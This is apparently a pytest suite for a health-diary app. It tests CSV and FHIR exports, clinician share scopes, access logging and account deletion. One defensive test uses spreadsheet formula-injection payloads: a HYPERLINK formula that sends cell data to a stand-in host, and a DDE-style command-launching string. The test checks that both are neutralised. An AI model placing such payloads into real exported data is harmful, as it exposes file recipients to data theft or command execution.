"""Exports (CSV and a FHIR R4 bundle) for the person and, within a share, their clinician; and account
deletion. Notes never leave without the notes scope, the share's window applies, each clinician export
is one access-log entry, and deleting an account leaves no row of the person anywhere."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections import Counter
from typing import Any

import pytest
from django.apps import apps
from django.db import models
from django.utils import timezone
from fhir.resources.R4B.bundle import Bundle
from fhir.resources.R4B.observation import Observation
from rest_framework.test import APIClient
from rest_framework_simplejwt.token_blacklist.models import BlacklistedToken, OutstandingToken
from rest_framework_simplejwt.tokens import RefreshToken

from diary.accounts.models import User
from diary.accounts.services import user_make_clinician
from diary.alerts.models import ThresholdOverride
from diary.checkins.models import CheckIn
from diary.episodes.models import Episode
from diary.episodes.render import episode_to_rest
from diary.notifications.models import Device, Notification, PushDelivery
from diary.patterns.services import insights_run_due
from diary.reports.csv_export import cell
from diary.sharing.models import AccessLog, Share
from diary.sharing.services import share_invite, share_redeem
from tests.conftest import PASSWORD, assert_error, client_for, episode_body, make_user, run_outbox

pytestmark = pytest.mark.django_db

ALL = ["episodes", "checkins", "notes", "insights", "alerts"]
EPISODE_NOTE = "private words about my calf"
CHECKIN_NOTE = "check-in words about my day"
TODAY = timezone.now().date()

# Clinician export endpoints, the scopes that open them, and the access-log "what".
CLINICIAN: list[tuple[str, set[str], str]] = [
    ("/api/v1/clinician/patients/{pid}/export/episodes.csv", {"episodes"}, "export_episodes_csv"),
    ("/api/v1/clinician/patients/{pid}/export/checkins.csv", {"checkins"}, "export_checkins_csv"),
    ("/api/v1/clinician/patients/{pid}/export/fhir", {"episodes", "checkins"}, "export_fhir"),
]
MINE = ["/api/v1/me/export/episodes.csv", "/api/v1/me/export/checkins.csv", "/api/v1/me/export/fhir"]


def shared(patient: User, clinician: User, scopes: list[str], **extra: Any) -> str:
    share, code = share_invite(patient=patient, data={"scopes": scopes, **extra})
    share_redeem(clinician=clinician, code=code)
    return share.uid


def diary(owner: User, *, note: str = EPISODE_NOTE, checkin_note: str = CHECKIN_NOTE) -> None:
    """Two episodes (one today, one 40 days ago) and two check-ins (today and 40 days ago)."""
    api = client_for(owner)
    old = timezone.now() - dt.timedelta(days=40)
    for started in (old, timezone.now() - dt.timedelta(hours=3)):
        r = api.post("/api/v1/episodes", episode_body(started_at=started.isoformat(), notes=note), format="json")
        assert r.status_code == 201, r.json()
    for day in (old.date(), TODAY):
        body = {"water_ml": 900, "sleep_h": 7.5, "stress": 4, "notes": checkin_note}
        assert api.put(f"/api/v1/checkins/{day}", body, format="json").status_code in (200, 201)
    run_outbox()


def rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, (response.status_code, response.content[:300])
    assert response["Content-Type"].startswith("text/csv")
    assert response["Cache-Control"] == "no-store" and "attachment" in response["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def bundle(response: Any) -> Bundle:
    assert response.status_code == 200, (response.status_code, response.content[:300])
    assert response["Content-Type"] == "application/fhir+json"
    parsed = Bundle.model_validate_json(response.content)  # validates every resource again
    assert parsed.type == "collection"
    return parsed


def kinds(b: Bundle) -> Counter[str]:
    return Counter(r["resourceType"] for r in resources(b))


def raw(resource: Any) -> dict[str, Any]:
    """A resource as its JSON (times as written, not as Python objects)."""
    return json.loads(resource.model_dump_json())


def resources(b: Bundle) -> list[dict[str, Any]]:
    return [e["resource"] for e in raw(b)["entry"]]


def observations(b: Bundle) -> list[Observation]:
    return [e.resource for e in b.entry or [] if isinstance(e.resource, Observation)]


# ---- CSV ----


def test_my_episodes_csv_round_trips(owner: User) -> None:
    diary(owner)
    api = client_for(owner)
    api.post("/api/v1/episodes", episode_body(symptoms=["numbness", "tingling"], triggers=[], tz="Asia/Tokyo", notes=EPISODE_NOTE),
             format="json")  # fmt: skip
    out = rows(api.get("/api/v1/me/export/episodes.csv"))
    assert len(out) == 3
    assert list(out[0]) == [
        "id", "local_date", "started_at", "tz", "kind", "subtype", "body_location", "side", "duration_s", "pain",
        "symptoms", "triggers", "relief", "activity", "relief_score", "notes",
    ]  # fmt: skip
    episodes = {e.uid: episode_to_rest(e) for e in Episode.objects.filter(user=owner)}
    for row in out:
        e = episodes[row["id"]]
        assert row["started_at"] == e["started_at"] and row["local_date"] == e["local_date"]
        assert dt.datetime.fromisoformat(row["started_at"]).utcoffset() is not None  # with the zone's offset
        assert (row["tz"], row["kind"], row["pain"], row["duration_s"]) == (e["tz"], "cramp", "6", "90")
        assert row["symptoms"] == ";".join(e["symptoms"]) and row["relief"] == "stretching"
        assert row["relief_score"] == "7" and row["notes"] == EPISODE_NOTE
    tokyo = next(r for r in out if r["tz"] == "Asia/Tokyo")
    assert tokyo["symptoms"] == "numbness;tingling" and tokyo["triggers"] == ""
    assert tokyo["started_at"].endswith("+09:00")
    instants = [dt.datetime.fromisoformat(r["started_at"]) for r in out]
    assert instants == sorted(instants)  # oldest first


def test_my_checkins_csv_round_trips(owner: User) -> None:
    diary(owner)
    client_for(owner).put(
        f"/api/v1/checkins/{TODAY}",
        {"water_ml": 1800, "hot_weather": True, "stretched": False, "medications": ["statin", "custom:vitamin D"],
         "alcohol_units": 0.5, "notes": CHECKIN_NOTE},
        format="json",
    )  # fmt: skip
    out = rows(client_for(owner).get("/api/v1/me/export/checkins.csv"))
    assert [r["date"] for r in out] == sorted(r["date"] for r in out) and len(out) == 2
    today = out[-1]
    assert today["date"] == TODAY.isoformat() and today["water_ml"] == "1800" and today["alcohol_units"] == "0.5"
    assert (today["hot_weather"], today["stretched"], today["menstruating"]) == ("true", "false", "")
    assert today["medications"] == "statin;custom:vitamin D" and today["notes"] == CHECKIN_NOTE


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_start_like_a_formula_become_text(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell("1+1") == "1+1" and cell(None) == "" and cell(["a", "b"]) == "a;b" and cell(True) == "true"


def test_formula_injection_is_neutralised_in_the_files(owner: User, clinician: User) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    api = client_for(owner)
    api.post("/api/v1/episodes", episode_body(notes=evil), format="json")
    api.put(f"/api/v1/checkins/{TODAY}", {"water_ml": 500, "notes": "@SUM(1+1)*cmd|' /C calc'!A0"}, format="json")
    (episode,) = rows(api.get("/api/v1/me/export/episodes.csv"))
    (checkin,) = rows(api.get("/api/v1/me/export/checkins.csv"))
    assert episode["notes"] == "'" + evil and checkin["notes"].startswith("'@SUM")
    pid = shared(owner, clinician, ALL)
    (episode,) = rows(client_for(clinician).get(f"/api/v1/clinician/patients/{pid}/export/episodes.csv"))
    assert episode["notes"] == "'" + evil
    for path in MINE[:2]:
        cells = [c for row in csv.reader(io.StringIO(api.get(path).content.decode(), newline="")) for c in row]
        assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


# ---- FHIR ----


def test_my_fhir_bundle_validates_and_counts(owner: User) -> None:
    diary(owner)
    client_for(owner).put(
        f"/api/v1/checkins/{TODAY}",
        {"water_ml": 1200, "sleep_h": 6.5, "caffeine_servings": 2, "stress": 7, "exercise_min": 30,
         "hot_weather": True, "medications": ["magnesium"], "notes": CHECKIN_NOTE},
        format="json",
    )  # fmt: skip
    b = bundle(client_for(owner).get("/api/v1/me/export/fhir"))
    # Patient; 2 episodes; old check-in: water, sleep, stress + note; today's: 7 measures + note.
    assert kinds(b) == {"Patient": 1, "Observation": 2 + 4 + 8}
    patient, *obs = resources(b)
    assert patient == {"resourceType": "Patient", "id": patient["id"]}  # pseudonymous: nothing but an id
    assert owner.email.encode() not in b.model_dump_json().encode() and str(owner.pk) != patient["id"]
    for o in obs:
        assert o["status"] == "final" and o["subject"] == {"reference": f"urn:uuid:{patient['id']}"}
        assert o["category"][0]["coding"][0]["code"] == "survey"
        assert set(o["code"]) == {"text"}  # no unverified codes
    episodes = [o for o in obs if o["code"]["text"].startswith("muscle ")]
    assert len(episodes) == 2
    rest = {episode_to_rest(e)["started_at"] for e in Episode.objects.filter(user=owner)}
    for o in episodes:
        assert o["code"]["text"] == "muscle cramp (nocturnal)"
        assert o["effectiveDateTime"] in rest  # the local time with its offset, as logged
        assert o["bodySite"] == {"text": "calf, left"}
        comps = {c["code"]["text"]: c for c in o["component"]}
        assert comps["pain 0-10"]["valueInteger"] == 6
        assert comps["duration"]["valueQuantity"] == {
            "value": 90, "unit": "s", "system": "http://unitsofmeasure.org", "code": "s"}  # fmt: skip
        assert comps["symptoms"]["valueString"] == "lingering pain" and o["note"] == [{"text": EPISODE_NOTE}]
    today = {o["code"]["text"]: o for o in obs if o["effectiveDateTime"] == TODAY.isoformat()}
    units = {t: (o["valueQuantity"]["unit"], o["valueQuantity"]["code"]) for t, o in today.items()
             if "valueQuantity" in o}  # fmt: skip
    assert units == {"water intake": ("mL", "mL"), "sleep duration": ("h", "h"), "exercise duration": ("min", "min")}
    assert today["water intake"]["valueQuantity"]["value"] == 1200
    assert today["stress 0-10"]["valueInteger"] == 7 and today["caffeine servings"]["valueInteger"] == 2
    assert today["hot weather"]["valueBoolean"] is True and today["medications taken"]["valueString"] == "magnesium"
    assert today["daily check-in note"]["note"] == [{"text": CHECKIN_NOTE}]
    again = bundle(client_for(owner).get("/api/v1/me/export/fhir"))
    assert [e.fullUrl for e in again.entry or []] == [e.fullUrl for e in b.entry or []]  # stable ids


def test_clinician_fhir_holds_only_what_the_scopes_allow(owner: User, clinician: User) -> None:
    diary(owner)
    both = shared(owner, clinician, ["episodes", "checkins"])
    b = bundle(client_for(clinician).get(f"/api/v1/clinician/patients/{both}/export/fhir"))
    assert kinds(b) == {"Patient": 1, "Observation": 2 + 2 * 3}
    doc2 = user_make_clinician(user=make_user("doc2@example.com"))
    only_checkins = shared(owner, doc2, ["checkins", "alerts"])
    b = bundle(client_for(doc2).get(f"/api/v1/clinician/patients/{only_checkins}/export/fhir"))
    assert kinds(b) == {"Patient": 1, "Observation": 2 * 3}
    assert not any((o.code.text or "").startswith("muscle") for o in observations(b))
    doc3 = user_make_clinician(user=make_user("doc3@example.com"))
    only_episodes = shared(owner, doc3, ["episodes"])
    b = bundle(client_for(doc3).get(f"/api/v1/clinician/patients/{only_episodes}/export/fhir"))
    assert kinds(b) == {"Patient": 1, "Observation": 2}
    # Two shares of one patient do not give the same pseudonym (no linking across clinicians).
    again = bundle(client_for(doc2).get(f"/api/v1/clinician/patients/{only_checkins}/export/fhir"))
    assert resources(b)[0]["id"] != resources(again)[0]["id"]


# ---- notes, window, access log ----


def test_notes_never_leave_without_the_notes_scope(owner: User, clinician: User) -> None:
    diary(owner)
    pid = shared(owner, clinician, ["episodes", "checkins", "insights", "alerts"])
    api = client_for(clinician)
    for path, _, _ in CLINICIAN:
        r = api.get(path.format(pid=pid))
        assert r.status_code == 200
        assert EPISODE_NOTE.encode() not in r.content and CHECKIN_NOTE.encode() not in r.content
        assert b"private words" not in r.content and b"check-in words" not in r.content
    assert all("notes" not in row for row in rows(api.get(CLINICIAN[0][0].format(pid=pid))))
    assert all("notes" not in row for row in rows(api.get(CLINICIAN[1][0].format(pid=pid))))
    fhir = bundle(api.get(CLINICIAN[2][0].format(pid=pid)))
    assert all(o.note is None for o in observations(fhir))

    doc2 = user_make_clinician(user=make_user("doc-notes@example.com"))
    with_notes = shared(owner, doc2, ["episodes", "checkins", "notes"])
    for path, _, _ in CLINICIAN:
        r = client_for(doc2).get(path.format(pid=with_notes))
        assert r.status_code == 200 and (EPISODE_NOTE.encode() in r.content or CHECKIN_NOTE.encode() in r.content)


def test_the_share_window_applies(owner: User, clinician: User) -> None:
    diary(owner)
    start = (timezone.now() - dt.timedelta(days=7)).date().isoformat()
    pid = shared(owner, clinician, ["episodes", "checkins"], window_start=start)
    api = client_for(clinician)
    (episode,) = rows(api.get(f"/api/v1/clinician/patients/{pid}/export/episodes.csv"))
    (checkin,) = rows(api.get(f"/api/v1/clinician/patients/{pid}/export/checkins.csv"))
    assert episode["local_date"] >= start and checkin["date"] == TODAY.isoformat()
    assert kinds(bundle(api.get(f"/api/v1/clinician/patients/{pid}/export/fhir"))) == {"Patient": 1, "Observation": 4}
    end = (timezone.now() - dt.timedelta(days=30)).date().isoformat()
    doc2 = user_make_clinician(user=make_user("doc-past@example.com"))
    past = shared(owner, doc2, ["episodes", "checkins"], window_end=end)
    (old,) = rows(client_for(doc2).get(f"/api/v1/clinician/patients/{past}/export/episodes.csv"))
    assert old["local_date"] <= end


@pytest.mark.parametrize(("path", "scopes", "what"), CLINICIAN)
def test_each_clinician_export_is_one_access_log_entry(
    owner: User, clinician: User, path: str, scopes: set[str], what: str
) -> None:
    diary(owner)
    pid = shared(owner, clinician, ALL)
    assert client_for(clinician).get(path.format(pid=pid)).status_code == 200
    (entry,) = AccessLog.objects.filter(patient=owner)
    assert (entry.clinician_id, entry.share.uid, entry.what) == (clinician.pk, pid, what)  # type: ignore[union-attr]
    log = client_for(owner).get("/api/v1/shares/access-log").json()
    assert len(log) == 1 and log[0]["share_id"] == pid


# ---- who may export ----


def _revoked(owner: User, doc: User, scopes: set[str]) -> str:
    pid = shared(owner, doc, ALL)
    assert client_for(owner).delete(f"/api/v1/shares/{pid}").status_code in (200, 204)
    return pid


def _expired(owner: User, doc: User, scopes: set[str]) -> str:
    pid = shared(owner, doc, ALL)
    Share.objects.filter(uid=pid).update(ends_at=timezone.now() - dt.timedelta(minutes=1))
    return pid


def _not_theirs(owner: User, doc: User, scopes: set[str]) -> str:
    return shared(owner, user_make_clinician(user=make_user("stranger-doc@example.com")), ALL)


def _no_share(owner: User, doc: User, scopes: set[str]) -> str:
    return "no-such-share"


def _lacking(owner: User, doc: User, scopes: set[str]) -> str:
    return shared(owner, doc, [s for s in ALL if s not in scopes])


CASES = {"no share": _no_share, "revoked": _revoked, "expired": _expired, "not theirs": _not_theirs,
         "lacking the scope": _lacking}  # fmt: skip


@pytest.mark.parametrize(("path", "scopes", "what"), CLINICIAN)
@pytest.mark.parametrize("case", list(CASES))
def test_the_clinician_export_authorization_matrix(
    owner: User, clinician: User, path: str, scopes: set[str], what: str, case: str
) -> None:
    diary(owner)
    pid = CASES[case](owner, clinician, scopes)
    before = AccessLog.objects.count()
    r = client_for(clinician).get(path.format(pid=pid))
    assert_error(r, 404)
    assert AccessLog.objects.count() == before  # a refused export is no access


@pytest.mark.parametrize(("path", "scopes", "what"), CLINICIAN)
def test_people_and_strangers_cannot_use_clinician_exports(
    owner: User, clinician: User, path: str, scopes: set[str], what: str
) -> None:
    pid = shared(owner, clinician, ALL)
    assert_error(client_for(owner).get(path.format(pid=pid)), 403)
    assert_error(APIClient().get(path.format(pid=pid)), 401)


@pytest.mark.parametrize("path", MINE)
def test_my_exports_are_for_diary_owners(clinician: User, path: str) -> None:
    assert_error(client_for(clinician).get(path), 403)
    assert_error(APIClient().get(path), 401)


def test_another_persons_data_never_appears_in_my_exports(owner: User, other: User) -> None:
    diary(owner)
    diary(other, note="other person's secret", checkin_note="other person's check-in")
    client_for(other).post("/api/v1/episodes", episode_body(), format="json")
    api = client_for(owner)
    mine = {e.uid for e in Episode.objects.filter(user=owner)}
    assert {r["id"] for r in rows(api.get("/api/v1/me/export/episodes.csv"))} == mine
    assert len(rows(api.get("/api/v1/me/export/checkins.csv"))) == CheckIn.objects.filter(user=owner).count() == 2
    b = bundle(api.get("/api/v1/me/export/fhir"))
    assert kinds(b)["Observation"] == 2 + 2 * 4
    for path in MINE:
        assert b"other person" not in api.get(path).content
    # A deleted (tombstoned) episode is not exported either.
    uid = sorted(mine)[0]
    assert api.delete(f"/api/v1/episodes/{uid}").status_code == 204
    assert uid not in {r["id"] for r in rows(api.get("/api/v1/me/export/episodes.csv"))}


# ---- account deletion ----


def _user_fields() -> list[tuple[type[models.Model], str]]:
    """Every (model, column) that references a user: a new table is covered without editing this test."""
    found = []
    for model in apps.get_models():
        for f in model._meta.get_fields():
            if f.concrete and f.is_relation and f.related_model is User and (f.many_to_one or f.one_to_one):
                found.append((model, f.attname))  # type: ignore[union-attr]
    return found


def rows_of(user_id: int) -> dict[str, int]:
    counts: dict[str, int] = {}
    for model, column in _user_fields():
        key = f"{model._meta.db_table}.{column}"
        counts[key] = model._default_manager.filter(**{column: user_id}).count()
    return counts


def full_diary(owner: User, clinician: User) -> str:
    """Something in every table a person's data lives in."""
    diary(owner, note="pain 9 words")
    api = client_for(owner)
    api.post("/api/v1/episodes", episode_body(pain=9), format="json")  # an alert
    assert api.post("/api/v1/water", {"amount_ml": 250}, format="json").status_code == 201
    assert api.post("/api/v1/reminders", {"kind": "stretching", "schedule": "times", "times": ["08:00"]},
                    format="json").status_code == 201  # fmt: skip
    device = Device.objects.create(user=owner, uid="dev-1", platform="fcm", token="fcm-token-of-owner")
    note = Notification.objects.create(user=owner, uid="n-1", seq=1, kind="reminder", title="Drink water")
    PushDelivery.objects.create(notification=note, device=device, next_attempt_at=timezone.now())
    assert api.post("/api/v1/insights/refresh").status_code == 202
    insights_run_due()
    api.post("/api/v1/episodes", episode_body(), format="json")  # an insights refresh due, an outbox event
    pid = shared(owner, clinician, ALL)
    assert client_for(clinician).get(f"/api/v1/clinician/patients/{pid}/export/fhir").status_code == 200
    ThresholdOverride.objects.create(patient=owner, clinician=clinician, name="pain_high", value=7)
    return pid


def test_deleting_my_account_removes_everything(owner: User, other: User, clinician: User) -> None:
    full_diary(owner, clinician)
    diary(other)
    tokens = [RefreshToken.for_user(owner) for _ in range(2)]
    tokens[0].blacklist()
    jtis = [t["jti"] for t in tokens]
    api = client_for(owner)
    before = rows_of(owner.pk)
    expected = [
        "diary_episode.user_id", "diary_checkin.user_id", "diary_water_intake.user_id", "reminders_rule.user_id",
        "reminders_notification.user_id", "reminders_device.user_id", "diary_alert.user_id",
        "diary_alert_threshold.patient_id", "diary_share.patient_id", "diary_share_access_log.patient_id",
        "diary_insight_snapshot.user_id", "diary_insights_due.user_id", "diary_outbox_event.user_id",
        "diary_sync_state.user_id", "token_blacklist_outstandingtoken.user_id",
    ]  # fmt: skip
    assert all(before.get(k, 0) > 0 for k in expected), {k: before.get(k) for k in expected}
    others_before = rows_of(other.pk)

    r = api.delete("/api/v1/me", {"password": PASSWORD}, format="json")
    assert r.status_code == 204, r.content
    assert not User.objects.filter(pk=owner.pk).exists()
    assert rows_of(owner.pk) == dict.fromkeys(before, 0)
    assert not OutstandingToken.objects.filter(jti__in=jtis).exists()
    assert not BlacklistedToken.objects.filter(token__jti__in=jtis).exists()
    assert not PushDelivery.objects.exists() and not Share.objects.exists()
    assert rows_of(other.pk) == others_before  # nobody else's rows moved
    assert User.objects.filter(pk=clinician.pk).exists()
    assert_error(api.get("/api/v1/me"), 401)  # the old access token names nobody now


@pytest.mark.parametrize("body", [{"password": "not my password"}, {"password": ""}, {}, ["x"]])
def test_a_wrong_or_missing_password_deletes_and_writes_nothing(owner: User, clinician: User, body: Any) -> None:
    full_diary(owner, clinician)
    api = client_for(owner)  # (a client mints a refresh token: before the snapshot)
    before = rows_of(owner.pk)
    password_hash = User.objects.get(pk=owner.pk).password
    r = api.delete("/api/v1/me", body, format="json")
    assert_error(r, 400, "password")
    assert rows_of(owner.pk) == before
    assert User.objects.get(pk=owner.pk).password == password_hash


def test_a_clinician_deleting_their_account_leaves_patients_data(owner: User, clinician: User) -> None:
    full_diary(owner, clinician)
    kept = {k: v for k, v in rows_of(owner.pk).items() if k.endswith((".user_id", ".patient_id"))}
    kept = {k: v for k, v in kept.items() if not k.startswith(("diary_share.", "diary_alert_threshold."))}
    assert client_for(clinician).delete("/api/v1/me", {"password": PASSWORD}, format="json").status_code == 204
    assert not User.objects.filter(pk=clinician.pk).exists()
    after = rows_of(owner.pk)
    assert {k: after[k] for k in kept} == kept  # the diary, its alerts and its access log all stay
    (entry,) = AccessLog.objects.filter(patient=owner)
    assert entry.clinician_id is None  # the log keeps the read, without the deleted account
    assert not Share.objects.filter(patient=owner).exists()  # the share ended with the clinician


def test_account_deletion_needs_a_signed_in_account() -> None:
    assert_error(APIClient().delete("/api/v1/me", {"password": PASSWORD}, format="json"), 401)
